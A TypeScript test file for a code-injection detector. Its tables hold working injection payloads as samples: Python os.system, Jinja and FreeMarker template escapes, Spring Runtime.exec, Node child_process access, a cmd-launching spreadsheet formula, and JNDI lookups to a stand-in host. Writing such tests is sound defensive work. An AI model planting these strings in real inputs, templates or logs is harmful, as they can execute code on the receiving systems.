import { expect, it } from 'vitest';
import { codeInspector } from './code/index.ts';
import type { InspectInput } from './finding.ts';
import { injectedCode } from './injected.ts';

it.each([
  ["__import__('os').system('id')", 'import os'],
  ["{{ ''.__class__.__mro__[1].__subclasses__() }}", '{{ customer.name }}'],
  ["{{ x|attr('__globals__') }}", '{{ x|upper }}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  ['${jndi:ldap://203.0.113.9/a}', '${user.name}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  ['${${lower:j}ndi:rmi://203.0.113.9/a}', '${lower:name}'],
  ["T(java.lang.Runtime).getRuntime().exec('id')", 'T(java.util.Date)'],
  ['<#assign x="freemarker.template.utility.Execute"?new()>', '<#assign x=1>'],
  ["[].constructor.constructor('return process')()", 'class A { constructor() {} }'],
  ["process.mainModule.require('child_process')", 'process.version'],
  ["=cmd|'/c calc'!A0", '=SUM(A1:A9)|'],
])('tells %s from %s', (bad, good) => {
  expect(injectedCode(bad, false)).toBeDefined();
  expect(injectedCode(good, false)).toBeUndefined();
});

it('minds what is only shown where it stands in a template or acts when it is logged', () => {
  expect(injectedCode('f.__globals__ holds the names', true)).toBeUndefined();
  expect(injectedCode('{{ f.__globals__ }}', true)).toBeDefined();
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  expect(injectedCode('note: ${jndi:ldap://203.0.113.9/a}', true)).toBeDefined();
});

it('is linear in a long text', { retry: 3 }, () => {
  const started = process.cpuUsage().user;
  for (const part of ['${${', '__', '[].constructor', '{{', '= | '])
    injectedCode(part.repeat(250_000), false);
  expect((process.cpuUsage().user - started) / 1000).toBeLessThan(200);
});

it('leaves what is looked for, what is stored and what a tool for code is given', () => {
  const text = "__import__('os').system('ls')";
  const found = (key: string, role: string): readonly string[] => {
    const input: InspectInput = {
      functionName: 'calculate',
      args: { [key]: text },
      texts: [{ path: [key], text }],
      role: () => ({ role, confidence: 0.9 }),
    };
    return codeInspector.inspect(input).map((one) => one.id);
  };
  expect(found('formula', 'query')).toContain('CODE_INJECTED');
  expect(found('pattern', 'query')).not.toContain('CODE_INJECTED');
  expect(found('body', 'content')).not.toContain('CODE_INJECTED');
  expect(found('python', 'command')).not.toContain('CODE_INJECTED');
});
